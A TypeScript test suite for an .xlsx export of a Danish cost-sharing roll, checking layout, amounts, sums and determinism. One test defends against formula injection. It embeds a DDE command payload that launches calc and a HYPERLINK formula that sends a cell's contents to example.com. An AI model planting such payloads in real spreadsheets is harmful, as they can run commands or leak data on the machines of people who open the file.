import { afterAll, describe, expect, it } from "vitest";
import { rollXlsx } from "../../shared/documents/index.ts";
import { sumOere } from "../../shared/money/index.ts";
import { ask, goldenRoll, type Rolled, temporaryFolder, withRoadAndLines } from "./rolls.ts";

const folder = temporaryFolder();
afterAll(folder.remove);

interface Sheet {
  name: string;
  /** Type as openpyxl names it: `n` a number or nothing, `s` text, `f` a formula. */
  cells: { value: string | number | null; type: string; format: string; fill: string | null }[][];
  frozen: string | null;
  titles: string | null;
}

/** What openpyxl, which shares no line with us, finds in the file. */
const reader = `
import json, sys, openpyxl
book = openpyxl.load_workbook(sys.argv[1])
cell = lambda c: {"value": c.value, "type": c.data_type, "format": c.number_format, "fill": c.fill.patternType}
print(json.dumps([{"name": s.title, "cells": [[cell(c) for c in row] for row in s.iter_rows()],
  "frozen": s.freeze_panes, "titles": s.print_title_rows} for s in book.worksheets]))
`;
function opened({ calculation, theCase }: Rolled, lang: "da" | "en" = "da"): [Sheet, Sheet] {
  const file = folder.write("roll.xlsx", rollXlsx(calculation, theCase, lang));
  return JSON.parse(ask("/usr/bin/python3", "-c", reader, file)) as [Sheet, Sheet];
}
const values = ({ cells }: Sheet) => cells.map((row) => row.map(({ value }) => value));
const columnOf = (sheet: Sheet, title: string) => {
  const at = values(sheet)[0]!.indexOf(title);
  return sheet.cells.map((row) => row[at]!);
};

describe("a roll as a spreadsheet", () => {
  const plain = opened(goldenRoll());

  it("opens in another program, with the roll and its method, its headings in view and on each page", () => {
    expect(plain.map(({ name }) => name)).toEqual(["Partsfortegnelse", "Metode"]);
    expect(plain[0].frozen).toBe("B2");
    expect(plain[0].titles).toBe("$1:$1");
  });

  it("holds kroner as numbers with two decimals and their unit, the total at the end", () => {
    const shares = columnOf(plain[0], "Andel, kr.");
    // docs/golden.md: 7,500,000.07 kr. on ten that pay and one that is exempt.
    expect(shares.slice(1, -1).map(({ value }) => value)).toEqual([
      750_000.01, 750_000.01, 750_000.01, 750_000.01, 750_000.01, 750_000.01, 750_000.01, 750_000, 750_000, 750_000, 0,
    ]);
    expect(shares.at(-1)).toMatchObject({ value: 7_500_000.07, type: "n", format: '#,##0.00\\ "kr."' });
    expect(columnOf(plain[0], "Andel, øre").at(-1)!.value).toBe(750_000_007);
  });

  it("sums each column of amounts: what stands under it is what stands in it", () => {
    const [roll] = opened(goldenRoll(withRoadAndLines));
    const rows = values(roll);
    const titles = rows[0]!.map(String);
    const units = rows.filter((row) => /^9990002-/.test(String(row[0])));
    const sums = Object.fromEntries(rows.slice(-4).map((row) => [row[0], row]));
    expect(Object.keys(sums)).toEqual(["I alt: grunde", "I alt: veje", "I alt: ledninger", "I alt"]);
    const oere = (value: unknown) => Math.round(Number(value) * 100);
    for (const [at, title] of titles.entries()) {
      if (!/(kr\.|øre)$/.test(title)) continue;
      const under = (name: string) => oere(sums[name]![at]);
      expect(under("I alt"), title).toBe(units.reduce((sum, row) => sum + oere(row[at]), 0));
      expect(under("I alt: grunde") + under("I alt: veje") + under("I alt: ledninger"), title).toBe(under("I alt"));
    }
    // Parcel 2 alone is a road, 3 alone a line owner's: 750,000.01 kr. each.
    expect(sums["I alt: veje"]![titles.indexOf("Andel, øre")]).toBe(75_000_001);
    expect(sums["I alt: ledninger"]![titles.indexOf("Andel, øre")]).toBe(75_000_001);
  });

  it("says the method, the law and key versions and the case's fingerprint", () => {
    const { calculation } = goldenRoll();
    const lines = Object.fromEntries(values(plain[1]).map(([title, text]) => [title, text]));
    expect(lines["Sagens fingeraftryk (SHA-256)"]).toBe(calculation.caseHash);
    expect(lines["Nøgler og versioner"]).toBe("equal 1");
    expect(lines.Lov).toContain(calculation.lawVersion);
    expect(lines["Ejernes del af Dige mod havet"]).toContain("x = R · 1 / Σ");
  });

  it("never lets a title become a formula, and keeps each sign of it", () => {
    const title = '=HYPERLINK("http://example.com?x="&A1,"<klik> & \u0007 \ud83c\udf0a")';
    const [roll, notes] = opened(
      goldenRoll((golden) => ({
        ...golden,
        title: "@SUM(1+1)*cmd|' /C calc'!A0",
        measures: golden.measures.map((measure) => ({ ...measure, title })),
      })),
    );
    const all = [...roll.cells, ...notes.cells].flat();
    expect(all.filter(({ type }) => type === "f")).toEqual([]);
    expect(values(notes)[0]).toEqual(["Projekt", "@SUM(1+1)*cmd|' /C calc'!A0"]);
    // ECMA-376 writes a bell as _x0007_; openpyxl reads it so, Excel as the bell.
    expect(values(roll)[0]).toContain(`Andel af ${title.replace("\u0007", "_x0007_")}, kr.`);
  });

  it("leaves what is not known empty and hatched, and its sum too", () => {
    const [roll] = opened(goldenRoll((golden) => ({ ...golden, hazards: [] })));
    const damage = columnOf(roll, "Skade om året uden projektet, kr.").slice(1);
    expect(damage.map(({ value, fill }) => [value, fill])).toEqual(Array(12).fill([null, "lightUp"]));
  });

  it("is the same bytes each time", () => {
    const { calculation, theCase } = goldenRoll();
    expect(rollXlsx(calculation, theCase, "en")).toEqual(rollXlsx(calculation, theCase, "en"));
    expect(sumOere(calculation.units.map(({ oere }) => oere))).toBe(750_000_007);
  });
});
